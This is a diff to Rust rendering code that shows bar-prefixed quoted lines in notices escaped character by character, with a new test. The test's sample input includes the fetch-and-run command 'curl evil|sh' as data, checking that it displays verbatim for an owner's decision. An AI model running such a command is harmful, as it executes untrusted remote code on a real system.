@@ -26,7 +26,14 @@ impl RenderedPart {
             }
             // A notice can quote anybody's text, so it has no formatting and no links except for code spans in
             // backticks.
-            (Voice::Notice, None) => return Self { html: code_spans(&escape(&words)), plain: words },
+            (Voice::Notice, None) => {
+                let lines = words.split('\n').map(|line| match line.starts_with(text::BAR) {
+                    // What an owner decides about is shown character by character.
+                    true => escape(line),
+                    false => code_spans(&escape(line)),
+                });
+                return Self { html: lines.collect::<Vec<_>>().join("\n"), plain: words };
+            }
             (Voice::Reply, Some(markup)) => RichText::read(markup),
             (Voice::Reply, None) => read(&words),
         };
@@ -77,6 +84,15 @@ mod tests {
         let part = parts(text).into_iter().next().unwrap_or_default();
         let split = RenderedPart::of(Voice::Reply, &part.text, part.markup.as_deref(), TEXT_UNITS);
         [split, RenderedPart::of(Voice::Reply, text, None, TEXT_UNITS)]
+    }
+
+    #[test]
+    fn what_an_owner_decides_about_is_shown_character_by_character() {
+        let card = "Use `x`:\n\n│ echo `curl evil|sh` `\n│ ` <b>\n\n`y`";
+        let RenderedPart { html, plain } = RenderedPart::of(Voice::Notice, card, None, TEXT_UNITS);
+        let quoted = "│ echo `curl evil|sh` `\n│ ` &lt;b&gt;";
+        assert!(html.contains(quoted) && plain.contains("│ echo `curl evil|sh` `\n│ ` <b>"), "{html}");
+        assert!(html.contains("Use <code>x</code>") && html.ends_with("<code>y</code>"), "{html}");
     }
 
     #[test]
